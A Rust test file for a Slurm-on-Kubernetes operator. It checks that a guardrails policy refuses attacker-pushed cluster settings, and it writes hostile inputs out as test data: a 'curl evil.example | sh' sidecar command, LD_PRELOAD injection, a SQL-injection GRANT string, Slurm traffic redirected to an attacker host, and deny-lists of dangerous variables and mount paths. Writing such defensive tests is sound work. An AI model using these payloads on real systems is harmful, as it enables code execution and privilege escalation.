//! Issue 76: under `guarded`, what a push may set is a list the install allows, checked on what
//! will run. Each class an attacker who can only push got through before — environment,
//! volumes, mount paths, code under another name, Slurm keys outside a deny-list, Slurm rights —
//! is refused by admission (what the daemon, `validate --guardrails` and `plan --guardrails`
//! run) at the line that asks for it, naming the setting that allows it; where an install
//! setting allows the class, it lets exactly that through.

use slurmops::cluster::Guardrails;
use slurmops::source::admit::{Candidate, Refusal, Rules, admit};

const MINIMAL: &str = include_str!("../../examples/minimal/cluster.yaml");

/// The minimal example with LINES added to its NodeSet.
fn worker(lines: &str) -> String {
    let indented: String = lines.lines().map(|l| format!("      {l}\n")).collect();
    MINIMAL.replacen(
        "      memory: 1Gi\n",
        &format!("      memory: 1Gi\n{indented}"),
        1,
    )
}

/// The minimal example with LINES added to its spec (before its NodeSets).
fn spec(lines: &str) -> String {
    let indented: String = lines.lines().map(|l| format!("  {l}\n")).collect();
    MINIMAL.replacen("  nodeSets:\n", &format!("{indented}  nodeSets:\n"), 1)
}

fn guarded() -> Guardrails {
    Guardrails::safe(vec!["slurm".into()])
}

/// TEXT admitted under G, or the refusal's lines.
fn admitted(text: &str, g: &Guardrails) -> Result<(), Vec<String>> {
    let c = Candidate {
        name: "cluster.yaml",
        text,
        commit: None,
    };
    let rules = Rules {
        guard: Some(g),
        ..Rules::default()
    };
    match admit(&c, &rules) {
        Ok(_) => Ok(()),
        Err(r @ Refusal::Guardrails { .. }) => Err(r.lines()),
        Err(other) => panic!("not a guardrails refusal: {other}\n{text}"),
    }
}

/// TEXT refused under the default policy, with a line at the line of NEEDLE holding every word
/// of WORDS.
fn refused_at(text: &str, needle: &str, words: &[&str]) {
    let line = text
        .lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("{needle:?} not in the text"))
        + 1;
    let lines = admitted(text, &guarded()).expect_err(&format!("admitted:\n{text}"));
    let at = format!("cluster.yaml:{line}:");
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&at) && words.iter().all(|w| l.contains(w))),
        "no refusal at {at} with {words:?}:\n{}",
        lines.join("\n")
    );
}

#[test]
fn environment_is_closed_names_from_the_installs_rule_values_from_allowed_sources() {
    // Search paths, Slurm's own, loader, shell, GPU runtime variables: never, whatever the rule.
    for name in [
        "PATH",
        "SLURM_CONF",
        "LD_PRELOAD",
        "BASH_ENV",
        "NVIDIA_VISIBLE_DEVICES",
        "PYTHONPATH",
    ] {
        let text = worker(&format!(
            "podTemplate:\n  env:\n    - {{name: {name}, value: /tmp/x}}"
        ));
        refused_at(
            &text,
            &format!("name: {name}"),
            &[name, "no install setting"],
        );
        let all = Guardrails {
            env: vec!["*".into()],
            ..guarded()
        };
        assert!(admitted(&text, &all).is_err(), "{name} allowed by '*'");
    }
    // Any other name: only as the install's rule says.
    let tz = worker("podTemplate:\n  env:\n    - {name: TZ, value: UTC}");
    refused_at(&tz, "name: TZ", &["TZ", "--allow-env TZ"]);
    let rule = Guardrails {
        env: vec!["TZ".into()],
        ..guarded()
    };
    admitted(&tz, &rule).unwrap();
    // Values only from the ConfigMaps and Secrets the install names; envFrom imports names
    // nobody checks.
    let from = worker(
        "podTemplate:\n  env:\n    - name: TZ\n      valueFrom: {configMapKeyRef: {name: someone-elses, key: tz}}",
    );
    refused_at(
        &from,
        "someone-elses",
        &["someone-elses", "--allow-config-map"],
    );
    let env_from = worker(
        "podTemplate:\n  extraContainers:\n    - name: side\n      image: ghcr.io/slinkyproject/sackd:25.11\n      envFrom: [{configMapRef: {name: other-env}}]",
    );
    refused_at(&env_from, "other-env", &["other-env", "--allow-config-map"]);
}

#[test]
fn volumes_are_the_allowed_types_and_claim_templates_clone_nothing() {
    for (volume, kind) in [
        (
            "{name: keys, downwardAPI: {items: [{path: authorized_keys, fieldRef: {fieldPath: \"metadata.annotations['k']\"}}]}}",
            "downwardAPI",
        ),
        (
            "{name: keys, nfs: {server: nfs.evil.example, path: /}}",
            "nfs",
        ),
        ("{name: keys, csi: {driver: x.csi.example}}", "csi"),
        (
            "{name: keys, ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}}}",
            "ephemeral",
        ),
        (
            "{name: keys, image: {reference: evil.example/x:1}}",
            "image",
        ),
        (
            "{name: keys, projected: {sources: [{serviceAccountToken: {path: t}}]}}",
            "serviceAccountToken",
        ),
    ] {
        let text = worker(&format!("volumes:\n  - {volume}"));
        refused_at(&text, "name: keys", &[kind, "--allow-volume-type"]);
    }
    let nfs = worker("volumes:\n  - {name: keys, nfs: {server: nfs.example, path: /export}}");
    let allowed = Guardrails {
        volume_types: vec!["nfs".into()],
        ..guarded()
    };
    admitted(&nfs, &allowed).unwrap();
    for (field, value) in [
        (
            "dataSource",
            "{kind: PersistentVolumeClaim, name: other-state}",
        ),
        ("volumeName", "pv-of-another-cluster"),
    ] {
        let text = worker(&format!(
            "volumeClaimTemplates:\n  - metadata: {{name: scratch}}\n    spec:\n      accessModes: [ReadWriteOnce]\n      resources: {{requests: {{storage: 1Gi}}}}\n      {field}: {value}"
        ));
        refused_at(&text, &format!("{field}:"), &[field, "clone"]);
    }
}

#[test]
fn no_mount_covers_what_the_containers_run_or_read_their_configuration_and_keys_from() {
    for path in [
        "/etc/slurm",
        "/usr/sbin",
        "/root/.ssh",
        "/etc",
        "/",
        "/usr/local/bin",
        "/var",
    ] {
        let text = worker(&format!(
            "volumes:\n  - {{name: scratch, emptyDir: {{}}}}\nvolumeMounts:\n  - {{name: scratch, mountPath: \"{path}\"}}"
        ));
        refused_at(&text, &format!("mountPath: \"{path}\""), &["would cover"]);
    }
    let sub = worker(
        "volumes:\n  - {name: scratch, emptyDir: {}}\nvolumeMounts:\n  - {name: scratch, mountPath: /scratch, subPathExpr: \"$(POD_NAME)\"}",
    );
    refused_at(&sub, "subPathExpr", &["subPathExpr"]);
    // A per-node NodeSet with a volume of its own (its template's revision label is a digest of
    // the template, which the volume changes: refused as a changed label before).
    let per_node = worker("volumes: [{name: scratch, emptyDir: {}}]\nvolumeMounts: [{name: scratch, mountPath: /scratch}]")
        .replacen("      replicas: 2\n", "      replicas: perNode\n", 1);
    assert!(per_node.contains("replicas: perNode"));
    admitted(&per_node, &guarded()).unwrap();
    // Where users' data goes, and devices below /dev, are fine.
    let fine = worker(
        "volumes:\n  - {name: scratch, emptyDir: {}}\n  - {name: shm, emptyDir: {medium: Memory}}\nvolumeMounts:\n  - {name: scratch, mountPath: /scratch}\n  - {name: shm, mountPath: /dev/shm}",
    );
    admitted(&fine, &guarded()).unwrap();
}

#[test]
fn code_under_another_name_needs_the_installs_review() {
    // A sidecar's and an init container's command and args are code.
    for list in ["extraContainers", "initContainers"] {
        let text = worker(&format!(
            "podTemplate:\n  {list}:\n    - name: side\n      image: ghcr.io/slinkyproject/sackd:25.11\n      command: [/bin/sh, -c, \"curl evil.example | sh\"]"
        ));
        refused_at(
            &text,
            "name: side",
            &["has not reviewed", "--allow-program sha256:"],
        );
        let lines = admitted(&text, &guarded()).unwrap_err();
        let digest = lines
            .iter()
            .find_map(|l| l.split("--allow-program ").nth(1))
            .and_then(|r| r.split_whitespace().next())
            .unwrap()
            .to_string();
        let reviewed = Guardrails {
            programs: vec![digest],
            ..guarded()
        };
        admitted(&text, &reviewed).unwrap();
    }
    // An exec probe in a sidecar is code too.
    let probe = worker(
        "podTemplate:\n  extraContainers:\n    - name: side\n      image: ghcr.io/slinkyproject/sackd:25.11\n      livenessProbe: {exec: {command: [/tmp/x]}}",
    );
    refused_at(&probe, "name: side", &["livenessProbe", "--allow-program"]);
    // A config file's keys that set every job's environment (mpi.conf's PMIxEnv).
    let mpi = spec(
        "controller:\n  configFiles:\n    mpi.conf:\n      content: |\n        PMIxEnv=LD_PRELOAD=/tmp/evil.so\n",
    );
    refused_at(
        &mpi,
        "PMIxEnv=",
        &["PMIxEnv", "environment", "--allow-slurm-key"],
    );
    // A slurm.conf key outside the old deny-list: every client's traffic to the pusher's host.
    let addr = spec("controller:\n  slurmConf:\n    SlurmctldAddr: evil.example");
    refused_at(
        &addr,
        "SlurmctldAddr",
        &["SlurmctldAddr", "--allow-slurm-key SlurmctldAddr"],
    );
    let allowed = Guardrails {
        slurm_keys: vec!["slurmctldaddr".into()],
        ..guarded()
    };
    admitted(&addr, &allowed).unwrap();
    // A key Slurm does not know is refused, not passed through.
    let unknown = spec("controller:\n  slurmConf:\n    SlurmctldFrobnicate: \"1\"");
    refused_at(
        &unknown,
        "SlurmctldFrobnicate",
        &["not a key slurmops knows"],
    );
    // Data keys stay the push's.
    let data = spec(
        "controller:\n  slurmConf:\n    MaxJobCount: 100000\n    SchedulerParameters: bf_continue",
    );
    admitted(&data, &guarded()).unwrap();
}

#[test]
fn slurm_rights_from_git_need_the_installs_allowance() {
    for level in ["Administrator", "Operator"] {
        let text = spec(&format!(
            "accounting:\n  enabled: true\n  database:\n    user: slurm\n    password: {{name: slurm-db, key: password}}\n    inCluster: {{storage: 1Gi}}\n  accounts:\n    - {{name: research}}\n  users:\n    - name: mallory\n      adminLevel: {level}\n      accounts: [{{name: research}}]"
        ));
        refused_at(&text, "adminLevel", &[level, "--allow-slurm-admin mallory"]);
        let allowed = Guardrails {
            slurm_admins: vec!["mallory".into()],
            ..guarded()
        };
        admitted(&text, &allowed).unwrap();
    }
}

#[test]
fn slurmops_own_containers_run_absolute_commands_and_the_minimal_example_passes_the_policy() {
    admitted(MINIMAL, &guarded()).unwrap();
    let c = slurmops::cluster::load("cluster.yaml", MINIMAL).unwrap();
    let r = slurmops::render::render(&c);
    let mut commands = 0;
    for o in &r.objects {
        let spec = o.body.pointer("/spec/template/spec");
        for list in ["containers", "initContainers"] {
            let cs = spec.and_then(|s| s.get(list)).and_then(|c| c.as_array());
            for c in cs.into_iter().flatten() {
                if let Some(program) = c.pointer("/command/0").and_then(|p| p.as_str()) {
                    commands += 1;
                    assert!(program.starts_with('/'), "{}: {program}", o.id());
                }
            }
        }
    }
    assert!(commands >= 3, "{commands}");
    // Images that keep Slurm elsewhere say where; still an absolute path.
    let elsewhere = spec("images: {sbin: /opt/slurm/sbin}");
    let c = slurmops::cluster::load("cluster.yaml", &elsewhere).unwrap();
    let r = slurmops::render::render(&c);
    let worker = r.get("StatefulSet", "cpu").unwrap();
    assert_eq!(
        worker
            .body
            .pointer("/spec/template/spec/containers/0/command/0"),
        Some(&serde_json::json!("/opt/slurm/sbin/slurmd"))
    );
    admitted(&elsewhere, &guarded()).unwrap();
    for bad in ["sbin", "/opt//x", "/opt/x/", "/opt/./x"] {
        let text = spec(&format!("images: {{sbin: \"{bad}\"}}"));
        invalid_at(&text, "sbin:", &["not an absolute directory"]);
    }
    // A mount where slurmd's program is read from, however the path is written (found by the
    // third red team with `/opt//x`, the directory compared as written).
    let over = spec("images: {sbin: /opt/x}").replacen(
        "      memory: 1Gi\n",
        "      memory: 1Gi\n      volumes: [{name: x, emptyDir: {}}]\n      volumeMounts: [{name: x, mountPath: /opt/./x/}]\n",
        1,
    );
    refused_at(&over, "mountPath: /opt/./x/", &["would cover /opt/x"]);
}

#[test]
fn validate_plan_and_apply_with_guardrails_refuse_before_anything_is_read_from_or_written_to_a_cluster()
 {
    let dir = tempfile::tempdir().unwrap();
    let text = worker("podTemplate:\n  env:\n    - {name: LD_PRELOAD, value: /tmp/x.so}");
    std::fs::write(dir.path().join("cluster.yaml"), &text).unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_slurmops"))
            .args(args)
            .arg(dir.path())
            .env("KUBECONFIG", dir.path().join("no-such-kubeconfig"))
            .output()
            .unwrap()
    };
    for cmd in [
        &["validate", "--guardrails"][..],
        &["plan", "--guardrails"],
        &["apply", "--guardrails"],
    ] {
        let out = run(cmd);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{cmd:?}: {err}");
        assert!(
            err.contains("LD_PRELOAD") && err.contains("cluster.yaml:"),
            "{cmd:?}: {err}"
        );
        assert!(
            !err.contains("no-such-kubeconfig"),
            "{cmd:?} went to the cluster: {err}"
        );
    }
}

/// TEXT refused by validation itself (any install), with a line at NEEDLE's line holding WORDS.
fn invalid_at(text: &str, needle: &str, words: &[&str]) {
    let line = text
        .lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("{needle:?} not in the text"))
        + 1;
    let c = Candidate {
        name: "cluster.yaml",
        text,
        commit: None,
    };
    let r = admit(&c, &Rules::default())
        .err()
        .unwrap_or_else(|| panic!("admitted:\n{text}"));
    assert!(r.invalid(), "{r}");
    let at = format!("cluster.yaml:{line}:");
    assert!(
        r.lines()
            .iter()
            .any(|l| l.starts_with(&at) && words.iter().all(|w| l.contains(w))),
        "no error at {at} with {words:?}:\n{}",
        r.lines().join("\n")
    );
}

/// Found by this red team against the first version of the closed policy: each was
/// admitted under the default policy.
#[test]
fn what_the_red_team_got_through_is_refused() {
    // A canary's script from a ConfigMap the install does not name — the cluster's own, whose
    // data files the push writes: code in every canary.
    let canary = worker(
        "update:\n  canary:\n    replicas: 1\n    validate:\n      configMapRef: {name: mini-config, key: acct_gather.conf}",
    );
    refused_at(
        &canary,
        "configMapRef",
        &["ConfigMap mini-config", "--allow-config-map"],
    );
    // The database's user and name are spliced into the SQL the in-cluster MariaDB runs as root
    // at its first start.
    let sql = "\"a'@'%';GRANT/**/ALL/**/ON/**/*.*/**/TO/**/x@'%'\"";
    for (user, name) in [(sql, "slurm_acct_db"), ("slurm", sql)] {
        let text = spec(&format!(
            "accounting:\n  enabled: true\n  database:\n    user: {user}\n    name: {name}\n    password: {{name: slurm-db, key: password}}\n    inCluster: {{storage: 1Gi}}"
        ));
        invalid_at(&text, "GRANT", &["spliced into SQL"]);
    }
    // A value ending in '\' joins slurmops's next line to it; a quote swallows the settings after
    // it on the line.
    for value in ["'CR_Core_Memory\\'", "'a\"b'"] {
        let text = spec(&format!(
            "controller:\n  slurmConf:\n    SelectTypeParameters: {value}"
        ));
        invalid_at(&text, "SelectTypeParameters", &["Slurm would"]);
    }
    // A partition option written in another case is still the partition's own field.
    let nodes = MINIMAL.replacen(
        "      default: true\n",
        "      default: true\n      options: {nodes: ALL}\n",
        1,
    );
    invalid_at(&nodes, "nodes: ALL", &["set by the partition's own field"]);
}

/// Found by the second red team: each was admitted under the default policy.
#[test]
fn what_the_second_red_team_got_through_is_refused() {
    // Ignore rules take fields out of what apply writes after the policy saw them: slurm.key's
    // mode (0644 by default then), the token's automount.
    let ignore = spec(
        "policy:\n  ignoreDifferences:\n    - kind: StatefulSet\n      name: cpu\n      jsonPointers: [/spec/template/spec/volumes/0/projected/defaultMode]",
    );
    refused_at(
        &ignore,
        "defaultMode",
        &["ignoreDifferences", "renders itself"],
    );
    let replicas = spec(
        "policy:\n  ignoreDifferences:\n    - {kind: StatefulSet, name: cpu, jsonPointers: [/spec/replicas]}",
    );
    admitted(&replicas, &guarded()).unwrap();
    // fsGroup makes the pod's Secret files, slurm.key among them, readable by that group.
    let fs_group = worker("podTemplate:\n  securityContext: {fsGroup: 100}");
    refused_at(&fs_group, "fsGroup", &["fsGroup", "slurm.key"]);
    // A NodeSet whose claims would be named as slurmctld's state claims are.
    let steal = MINIMAL.replacen(
        "    - name: cpu\n",
        "    - name: controller\n      replicas: 1\n      cpu: \"1\"\n      memory: 1Gi\n      volumeClaimTemplates:\n        - metadata: {name: statesave-mini}\n          spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}\n    - name: cpu\n",
        1,
    );
    refused_at(&steal, "name: statesave-mini", &["share volumes"]);
    // Annotations drive other controllers (a Service on a tailnet, a sidecar injected); none of
    // slurmops's own.
    let expose = MINIMAL.replacen(
        "  namespace: slurm\n",
        "  namespace: slurm\n  annotations: {tailscale.com/expose: \"true\"}\n",
        1,
    );
    refused_at(
        &expose,
        "tailscale.com/expose",
        &["--allow-annotation tailscale.com"],
    );
    // Copied onto every object, it is one refusal that counts them, not one per object.
    let lines = admitted(&expose, &guarded()).unwrap_err();
    assert_eq!(lines.len(), 1, "{lines:#?}");
    assert!(lines[0].contains("more alike"), "{}", lines[0]);
    let allowed = Guardrails {
        annotations: vec!["tailscale.com/".into()],
        ..guarded()
    };
    admitted(&expose, &allowed).unwrap();
    let drain = worker("podTemplate:\n  annotations: {slurmops.dev/drain: \"true\"}");
    refused_at(&drain, "slurmops.dev/drain", &["its own annotations"]);
    // A RuntimeClass chooses the runtime, and the isolation.
    let runtime = worker("podTemplate:\n  runtimeClassName: runc-unsandboxed");
    refused_at(&runtime, "runtimeClassName", &["--allow-runtime-class"]);
    let allowed = Guardrails {
        runtime_classes: vec!["runc-unsandboxed".into()],
        ..guarded()
    };
    admitted(&runtime, &allowed).unwrap();
}

/// A claim a typed setting names is mounted by rendered pods: the copies' `spec.backup.claim`
/// (issue 77) in slurmdbd's pod, the controllers' and the scheduled copies' CronJob. Like any
/// claim a pod mounts that this rendering does not make, only one the install names (it could be
/// another cluster's state or home).
#[test]
fn the_copies_claim_is_mounted_only_when_the_install_names_it() {
    let quick = include_str!("../../examples/quickstart/cluster.yaml");
    let text = quick.replace(
        "  accounting:\n",
        "  backup:\n    claim: other-clusters-state\n    schedule: {cron: \"0 3 * * *\", keep: 7}\n  accounting:\n",
    );
    assert_ne!(text, quick);
    refused_at(
        &text,
        "claim: other-clusters-state",
        &[
            "PersistentVolumeClaim",
            "other-clusters-state",
            "--allow-volume-claim",
        ],
    );
    let mut g = guarded();
    g.volume_claims = vec!["other-clusters-state".into()];
    assert_eq!(admitted(&text, &g), Ok(()));
}
